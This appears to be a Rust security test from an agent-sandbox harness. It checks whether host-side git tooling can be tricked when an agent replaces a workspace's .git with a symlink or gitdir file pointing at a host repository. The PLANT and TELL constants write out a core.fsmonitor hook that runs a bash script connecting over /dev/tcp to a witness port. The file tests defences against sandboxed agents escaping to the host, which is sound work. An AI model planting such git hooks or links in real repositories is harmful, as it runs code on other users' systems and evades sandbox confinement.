//! A workspace whose `.git` is not its repository any more: an agent puts a link or a file in its place that leads to a repository of
//! the host's, or elsewhere in the workspace, and leaves it to be published and saved. Who runs git there outside works on what it
//! leads to, by the settings that are there; the control of each is somebody who does.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{Context, ensure};
use serde_json::{Value, json};
use tempfile::TempDir;
use testkit::parts::Parts;
use testkit::repository::run_git;
use testkit::volumes::SessionFiles;
use testkit::world::{World, WorldSpec};

use super::control::Shown;
use super::report::{Report, Tried};
use super::surroundings::{Surroundings, UID};
use super::traces::{find_text, runs_git, start};
use super::verdict::Verdict;
use super::witness::token;
use super::world::{Owner, Side, bash};

const WAIT: Duration = Duration::from_mins(2);
/// What nobody but the host has.
const MARK: &str = "a-mark-of-the-host-9e27";
/// The word of a refusal.
const UNTOUCHED: &str = "UNTOUCHED";
/// Whoever looks at the work tree by git's index runs this, if the settings there count.
const TELL: &str = "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/PORT && echo TOKEN >&3\n";
/// Makes work, some of it committed, and takes the repository away.
const PLANT: &str = r#"echo "value = 1" > work.py; git add work.py; git commit -qm "feat: add work"; echo "value = 2" > work.py
printf 'TELL' > .git/tell; chmod +x .git/tell
git config core.fsmonitor "$PWD/.kept/tell"; echo /.kept >> .git/info/exclude
mv .git .kept; LEAD; ls -ld .git"#;

/// Where `.git` leads.
struct Way {
    name: &'static str,
    /// What puts it there.
    lead: &'static str,
    /// Whether the shim finds the repository that way, and publishes; else it saves what it can, and says so.
    publishes: bool,
}

const WAYS: [Way; 3] = [
    Way { name: "traces.git_link_to_the_host", lead: "ln -s VICTIM/.git .git", publishes: false },
    Way { name: "traces.git_file_to_the_host", lead: "echo 'gitdir: VICTIM/.git' > .git", publishes: false },
    Way {
        name: "traces.git_link_beside_it",
        lead: "git config -f .kept/config core.fsmonitor .git/tell; ln -s .kept .git",
        publishes: true,
    },
];

/// Whether an attempt has this in its name.
pub(super) fn has(only: &str) -> bool {
    WAYS.iter().any(|way| way.name.contains(only))
}

/// Leaves each behind in a run of a side, and looks at who fell for it; then somebody does.
///
/// # Errors
/// A part does not start, the run does not end, or it was not published and saved as it is meant to be.
pub(super) async fn attack(
    parts: &Parts,
    side: Side,
    only: &str,
    surroundings: &Surroundings,
    report: &mut Report,
) -> anyhow::Result<()> {
    let chosen: Vec<_> = const { &WAYS }.iter().filter(|way| way.name.contains(only)).collect();
    super::say(&format!("{} workspaces of {} without their repository", chosen.len(), side.name()));
    let owner = side.owner(parts)?;
    for way in chosen {
        let left = Left::leave(way, &owner, side, surroundings).await?;
        let verdict = match left.touched(surroundings)? {
            Some(how) => Verdict::Through(how),
            None => Verdict::Refused { error: UNTOUCHED.to_owned(), said: left.outcome() },
        };
        report.tried.push(Tried {
            name: way.name,
            walls: "nobody outside runs git on a workspace".to_owned(),
            refusals: vec![UNTOUCHED],
            side: side.name(),
            verdict,
        });
        let session = left.run["session_id"].as_str().context("the run has no session")?;
        let files = SessionFiles::open(left.world.state_dir(), session)?;
        runs_git(&files.directory().join("workspace"))?;
        report.take(match left.touched(surroundings)? {
            Some(_) => Shown::Real(1),
            None => {
                Shown::Nothing(vec![format!("{} of {}: nobody would fall for it", way.name, side.name())])
            }
        });
    }
    Ok(())
}

/// A run that has left a workspace behind.
struct Left {
    world: World,
    run: Value,
    victim: Victim,
    /// The word of this run.
    told: String,
}

impl Left {
    async fn leave(
        way: &Way,
        owner: &Owner,
        side: Side,
        surroundings: &Surroundings,
    ) -> anyhow::Result<Self> {
        let told = token(way.name, &side.name());
        let tell = TELL.replace("PORT", &surroundings.witness.port.to_string()).replace("TOKEN", &told);
        let victim = Victim::make(&tell)?;
        let place = victim.place.to_str().context("a temporary path is not UTF-8")?.to_owned();
        let plant = PLANT.replace("LEAD", way.lead).replace("VICTIM", &place);
        let plant = plant.replace("TELL", &tell.replace('\n', "\\n"));
        let steps = json!([bash(&plant, 60_000), { "text": "Left it." }]);
        let scenario = json!({ "gitlinks": { "prompts": [steps, [{ "text": "feat: add more work" }]] } });
        let spec = WorldSpec {
            scenario: "gitlinks".to_owned(),
            scenarios: vec![scenario.to_string()],
            user: owner.user.clone(),
            ..WorldSpec::on(side.engine)
        };
        let world = World::start(&owner.parts, spec).await?;
        let id = world.api.submit(&world.run_body()).await?;
        let run = world.api.wait_end(&id, WAIT).await?;
        let events = world.api.events(&id).await?;
        world.wait_tidy().await?;
        is_as_meant(way, &world, &run, &events)?;
        Ok(Self { world, run, victim, told })
    }

    /// How somebody fell for it; none if nobody did.
    fn touched(&self, surroundings: &Surroundings) -> anyhow::Result<Option<String>> {
        Ok(if surroundings.witness.heard(&self.told) {
            Some("it ran outside".to_owned())
        } else if self.victim.files()? != self.victim.before {
            Some("a repository of the host was changed".to_owned())
        } else if find_text(self.world.state_dir(), MARK) {
            Some("what the host has is kept by the server".to_owned())
        } else {
            None
        })
    }

    fn outcome(&self) -> String {
        let failure = self.run["failure"]["message"].as_str();
        failure.map_or("the run was published".to_owned(), |message| format!("the run ended: {message}"))
    }
}

/// What the shim did of it is what the attempt is about: it published the work, or it could not, and then could save none.
fn is_as_meant(way: &Way, world: &World, run: &Value, events: &[Value]) -> anyhow::Result<()> {
    let log = || format!("{run:#}\n{}\n{}", json!(events), world.server.log());
    if way.publishes {
        ensure!(run["status"] == "succeeded", "{} was not published: {}", way.name, log());
        let pushed =
            run["pushed_commit"].as_str().with_context(|| format!("nothing was pushed: {}", log()))?;
        let work = run_git(&world.bare, &["show", &format!("{pushed}:work.py")])?;
        ensure!(work == "value = 2", "other work was pushed: {work}");
        return Ok(());
    }
    ensure!(run["status"] == "failed", "{} was published: {}", way.name, log());
    let tried = events.iter().any(|event| {
        event["kind"] == "note" && event["data"]["message"].to_string().contains("could not be saved")
    });
    ensure!(tried, "nobody tried to save the work of {}: {}", way.name, log());
    Ok(())
}

/// A repository of the host's, whose owner has settings that start a program.
struct Victim {
    _directory: TempDir,
    place: PathBuf,
    before: Files,
}

/// Every file, and what is in it.
type Files = Vec<(PathBuf, Vec<u8>)>;

impl Victim {
    fn make(tell: &str) -> anyhow::Result<Self> {
        // Where every user can come.
        let directory = tempfile::tempdir_in("/var/tmp")?;
        fs::set_permissions(directory.path(), fs::Permissions::from_mode(0o755))?;
        let place = directory.path().join("victim");
        fs::create_dir(&place)?;
        run_git(&place, &["init", "-q", "-b", "main"])?;
        fs::write(place.join("victim.txt"), format!("{MARK}\n"))?;
        run_git(&place, &["add", "-A"])?;
        run_git(&place, &["commit", "-q", "-m", "feat: be there"])?;
        let program = place.join("tell");
        fs::write(&program, tell)?;
        fs::set_permissions(&program, fs::Permissions::from_mode(0o755))?;
        let program = program.to_str().context("a temporary path is not UTF-8")?;
        run_git(&place, &["config", "core.fsmonitor", program])?;
        let text = place.to_str().context("a temporary path is not UTF-8")?;
        // It is theirs who are careless, and nobody is kept from it.
        start(&["/bin/chown", "-R", &UID.to_string(), text])?;
        start(&["/bin/chmod", "-R", "a+rwX", text])?;
        let before = files(&place)?;
        Ok(Self { _directory: directory, place, before })
    }

    fn files(&self) -> anyhow::Result<Files> {
        files(&self.place)
    }
}

fn files(directory: &Path) -> anyhow::Result<Files> {
    let mut found = Vec::new();
    let mut left = vec![directory.to_owned()];
    while let Some(place) = left.pop() {
        for entry in fs::read_dir(place)? {
            let path = entry?.path();
            if path.is_dir() {
                left.push(path);
            } else {
                let bytes = fs::read(&path)?;
                found.push((path, bytes));
            }
        }
    }
    found.sort();
    Ok(found)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_that_was_touched_is_seen() {
        let victim = Victim::make("#!/bin/sh\n").unwrap();
        assert_eq!(victim.files().unwrap(), victim.before);
        fs::write(victim.place.join(".git/index"), "x").unwrap();
        assert!(victim.files().unwrap() != victim.before);
    }
}
